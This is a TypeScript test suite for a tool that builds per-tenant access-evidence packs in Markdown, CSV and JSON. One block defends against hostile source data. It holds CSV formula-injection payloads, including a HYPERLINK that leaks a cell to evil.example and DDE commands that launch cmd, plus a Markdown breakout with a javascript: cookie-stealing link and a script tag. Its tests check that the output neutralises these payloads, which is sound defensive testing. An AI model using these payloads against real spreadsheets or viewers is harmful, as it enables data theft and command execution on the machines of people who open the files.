/**
 * The evidence pack (npm run report): for one tenant, every person and
 * identity that can reach it with one shortest path, each step's approval,
 * justification, expiry and certification, the tenant's findings, and the
 * date of the evidence; in Markdown, CSV and JSON; and nothing of any other
 * client, since it is read as the tenant's auditor reads it.
 */
import { execFile } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { promisify } from 'node:util';
import type { ApolloServer } from '@apollo/server';
import { collectPack, type EvidencePack } from '../src/report/collect';
import { formatPack } from '../src/report/format';
import { createApollo } from '../src/server/app';
import type { RequestContext } from '../src/server/context';
import { parseCsv } from './support/csv';
import { APPROVER, grant, graph, identity, named, own, system, tool, unapproved } from './support/fixtures';
import { useHarness } from './support/harness';

const h = useHarness();
const run = promisify(execFile);
let apollo: ApolloServer<RequestContext>;
const NOW = '2026-06-01T00:00:00Z';

// Alpha and Beta share the pooled RMM. ann reaches Alpha through her admin account and the RMM;
// bob (Beta's own admin) reaches Beta only; the RMM's record into Beta must never show.
const FIXTURE = graph({
  people: [named('ann'), named('bob-beta')],
  tenants: [{ id: 'tenant:alpha', name: 'Alpha Corp' }, { id: 'tenant:beta', name: 'Beta Bank' }],
  systems: [system('alpha-dc', 'tenant:alpha'), system('alpha-fs', 'tenant:alpha'), system('beta-core', 'tenant:beta')],
  identities: [identity('adm-ann'), identity('adm-beta')],
  tools: [tool('rmm')],
  ownerships: [own(APPROVER, 'adm-ann'), own(APPROVER, 'adm-beta'), own(APPROVER, 'rmm')],
  access: [
    grant('u-ann', 'USES', 'ann', 'adm-ann', { expiresAt: '2026-12-31T00:00:00Z', lastCertifiedAt: '2026-03-01T00:00:00Z', certifiedById: APPROVER }),
    grant('c-ann-rmm', 'CAN_ACCESS', 'adm-ann', 'rmm', { privileged: true }),
    unapproved(grant('c-rmm-alpha', 'CAN_ACCESS', 'rmm', 'tenant:alpha')),
    grant('c-rmm-beta', 'CAN_ACCESS', 'rmm', 'tenant:beta'),
    grant('u-bob', 'USES', 'bob-beta', 'adm-beta'),
    grant('c-beta', 'CAN_ACCESS', 'adm-beta', 'beta-core'),
  ],
});

beforeAll(async () => {
  apollo = createApollo();
  await apollo.start();
  await h.resetTo(FIXTURE, '2026-01-01T00:00:00Z');
});
afterAll(() => apollo.stop());

const pack = () => collectPack(h.exec, apollo, { tenantId: 'tenant:alpha', asOf: NOW, now: '2026-06-02T00:00:00Z' });
const BETA = /beta/i;

it('lists every person and identity that can reach the tenant, each with one shortest path into it', async () => {
  const p = await pack();
  const route = (r: EvidencePack['people'][number]) => [r.entity.id, r.distance, r.target.id, r.path.map((s) => `${s.from.id}>${s.to.id}`).join(' ')];
  // The RMM holds tenant-wide access: the shortest path into Alpha ends at the tenant itself.
  expect(p.people.map(route)).toEqual([['ann', 3, 'tenant:alpha', 'ann>adm-ann adm-ann>rmm rmm>tenant:alpha']]);
  expect(p.identities.map(route)).toEqual([['adm-ann', 2, 'tenant:alpha', 'adm-ann>rmm rmm>tenant:alpha']]);
  expect({ tenant: p.tenant, asOf: p.asOf, generatedAt: p.generatedAt, maxDepth: p.maxDepth }).toEqual({
    tenant: { id: 'tenant:alpha', name: 'Alpha Corp', contractStatus: 'ACTIVE' },
    asOf: NOW,
    generatedAt: '2026-06-02T00:00:00Z',
    maxDepth: 8,
  });
});

it("carries each step's approval, justification, expiry and certification, and its gaps", async () => {
  const [ann] = (await pack()).people;
  expect(ann.path.map((s) => s.access && { id: s.access.id, approvedBy: s.access.approvedBy?.id ?? null, justification: s.access.justification, expiresAt: s.access.expiresAt, lastCertifiedAt: s.access.lastCertifiedAt, certifiedBy: s.access.certifiedBy?.id ?? null, privileged: s.access.privileged, gaps: s.gaps })).toEqual([
    { id: 'u-ann', approvedBy: APPROVER, justification: 'ticket 1', expiresAt: '2026-12-31T00:00:00.000Z', lastCertifiedAt: '2026-03-01T00:00:00.000Z', certifiedBy: APPROVER, privileged: false, gaps: [] },
    { id: 'c-ann-rmm', approvedBy: APPROVER, justification: 'ticket 1', expiresAt: null, lastCertifiedAt: null, certifiedBy: null, privileged: true, gaps: [] },
    { id: 'c-rmm-alpha', approvedBy: null, justification: 'ticket 1', expiresAt: null, lastCertifiedAt: null, certifiedBy: null, privileged: false, gaps: ['NO_APPROVAL'] },
  ]);
});

it("includes the tenant's findings with their framework controls", async () => {
  const p = await pack();
  const codes = p.findings.map((f) => f.code);
  // The unapproved RMM record into Alpha and the standing privileged record on the path are findings of this tenant.
  expect(codes).toEqual(expect.arrayContaining(['UNAPPROVED_ACCESS', 'STANDING_PRIVILEGED_ACCESS']));
  expect(p.findings.every((f) => f.frameworks.length > 0)).toBe(true);
});

it('holds nothing of any other client in any format', async () => {
  const p = await pack();
  for (const format of ['md', 'csv', 'json'] as const) expect({ format, leaks: formatPack(p, format).match(BETA) }).toEqual({ format, leaks: null });
});

it('writes Markdown with the tenant, the date of the evidence, who reaches it and each step', async () => {
  const md = formatPack(await pack(), 'md');
  expect(md.split('\n').filter((l) => l.startsWith('#'))).toEqual([
    '# Access evidence: Alpha Corp',
    '## People who can reach the tenant',
    '## Identities that can reach the tenant',
    '## Each path, step by step',
    '### ann (`ann`) → the whole tenant',
    '### adm-ann (`adm-ann`) → the whole tenant',
    '## Findings',
  ]);
  expect(md).toContain(`| Evidence as of | ${NOW} |`);
  expect(md).toContain('| ann (`ann`) | 3 | the whole tenant | ann → adm-ann → rmm → Alpha Corp |');
  expect(md).toContain('| 3 | rmm → Alpha Corp | CAN_ACCESS `c-rmm-alpha` | **none** | ticket 1 | 2026-01-01 | standing | never | NO_APPROVAL |');
});

it('writes CSV with one row per path step and one per finding, under one header', async () => {
  const p = await pack();
  const lines = formatPack(p, 'csv').trimEnd().split('\n');
  expect(lines[0].split(',').slice(0, 4)).toEqual(['row', 'reacher_kind', 'reacher_id', 'reacher_name']);
  const kinds = lines.slice(1).map((l) => l.split(',')[0]);
  expect(kinds).toEqual([...Array(3 + 2).fill('path_step'), ...Array(p.findings.length).fill('finding')]);
});

describe('a pack whose source data is hostile, opened by the client', () => {
  // The payloads of issue 9: a formula in an identity name, a DDE command in a
  // justification, an id whose backtick and line breaks left the table for a
  // heading and a javascript: link, and raw HTML in a person's name.
  const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")';
  const DDE = "=cmd|' /C calc'!A0";
  const BREAKOUT_ID = 'adm-ann`\n# Pwned\n[click here](javascript:alert(document.cookie))';
  const SCRIPT = '<script>alert(1)</script>';
  // One value for each other character a spreadsheet starts a formula with.
  const FORMULAS = ['+1+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];

  const hostile = async () => {
    const p = await pack();
    const [ann] = p.people;
    const [admAnn] = p.identities;
    ann.entity.name = SCRIPT;
    ann.path[0].from.name = SCRIPT;
    admAnn.entity.name = HYPERLINK;
    admAnn.entity.id = BREAKOUT_ID;
    const records = [...ann.path, ...admAnn.path].map((s) => s.access!);
    [DDE, ...FORMULAS.slice(0, 4)].forEach((payload, i) => (records[i].justification = payload));
    p.findings[0].title = FORMULAS[4];
    return p;
  };

  it('writes every CSV cell that a spreadsheet would run as a formula as quoted text starting with a single quote', async () => {
    const rows = parseCsv(formatPack(await hostile(), 'csv'));
    const header = rows[0];
    const column = (name: string) => rows.slice(1).map((r) => r[header.indexOf(name)]);
    expect(column('reacher_name').slice(3, 5)).toEqual([`'${HYPERLINK}`, `'${HYPERLINK}`]);
    expect(column('justification').slice(0, 5)).toEqual([DDE, ...FORMULAS.slice(0, 4)].map((payload) => `'${payload}`));
    expect(column('title').slice(5, 6)).toEqual([`'${FORMULAS[4]}`]);
    expect(rows.flat().filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
  });

  it('writes Markdown in which no value becomes a heading, a link, HTML or a way out of its table', async () => {
    const md = formatPack(await hostile(), 'md');
    expect(md.split('\n').filter((l) => l.startsWith('#'))).toEqual([
      '# Access evidence: Alpha Corp',
      '## People who can reach the tenant',
      '## Identities that can reach the tenant',
      '## Each path, step by step',
      '### &lt;script&gt;alert(1)&lt;/script&gt; (`ann`) → the whole tenant',
      '### =HYPERLINK("http://evil.example/?leak="&amp;A1,"Click for details") (``adm-ann` # Pwned [click here](javascript:alert(document.cookie))``) → the whole tenant',
      '## Findings',
    ]);
    expect(md).toContain('| =HYPERLINK("http://evil.example/?leak="&amp;A1,"Click for details") (``adm-ann` # Pwned [click here](javascript:alert(document.cookie))``) | 2 | the whole tenant |');
    expect(md).toContain("| 1 | &lt;script&gt;alert(1)&lt;/script&gt; → adm-ann | USES `u-ann` | Approver, — | =cmd\\|' /C calc'!A0 |");
    // The javascript: link is left only as literal text inside the id's code span.
    expect(md.replaceAll('``adm-ann` # Pwned [click here](javascript:alert(document.cookie))``', 'ID').match(/<script|javascript:/g)).toBeNull();
  });
});

it('refuses an unknown tenant, or an id that is not a tenant, as NOT_FOUND', async () => {
  await expect(collectPack(h.exec, apollo, { tenantId: 'tenant:nope' })).rejects.toMatchObject({ extensions: { code: 'NOT_FOUND' } });
  await expect(collectPack(h.exec, apollo, { tenantId: 'alpha-dc' })).rejects.toMatchObject({ extensions: { code: 'NOT_FOUND' } });
});

describe('npm run report', () => {
  const repo = path.resolve(__dirname, '..');
  const cli = (...args: string[]) => run(path.join(repo, 'node_modules', '.bin', 'tsx'), [path.join(repo, 'src', 'cli', 'report.ts'), ...args], { cwd: repo, env: process.env });
  const summary = (p: EvidencePack) => ({ tenant: p.tenant.id, people: p.people.map((r) => r.entity.id), identities: p.identities.map((r) => r.entity.id) });
  const ALPHA = { tenant: 'tenant:alpha', people: ['ann'], identities: ['adm-ann'] };

  it('prints the pack in the format asked for with --out -', async () => {
    const { stdout } = await cli('--tenant', 'tenant:alpha', '--format', 'json', '--as-of', NOW, '--out', '-');
    expect(summary(JSON.parse(stdout))).toEqual(ALPHA);
  });

  it('run as the README shows it, writes a clean file named after the tenant and the date of the evidence, and prints its path', async () => {
    const file = path.join(repo, 'evidence-tenant-alpha-2026-06-01.json');
    try {
      // npm prints its banner on standard output: the pack must not be there.
      const { stdout, stderr } = await run('npm', ['run', 'report', '--', '--tenant', 'tenant:alpha', '--format', 'json', '--as-of', NOW], { cwd: repo, env: process.env });
      expect({ stdout: stdout.includes('"tenant"'), stderr: stderr.trim().split('\n').at(-1) }).toEqual({ stdout: false, stderr: `Wrote the evidence pack of tenant:alpha to ${file}` });
      expect(summary(JSON.parse(fs.readFileSync(file, 'utf8')))).toEqual(ALPHA);
    } finally {
      fs.rmSync(file, { force: true });
    }
  });

  it('refuses a bad format with its usage and exit code 2', async () => {
    await expect(cli('--tenant', 'tenant:alpha', '--format', 'pdf')).rejects.toMatchObject({ code: 2, stderr: expect.stringContaining('--format must be one of md, csv, json') });
  });
});
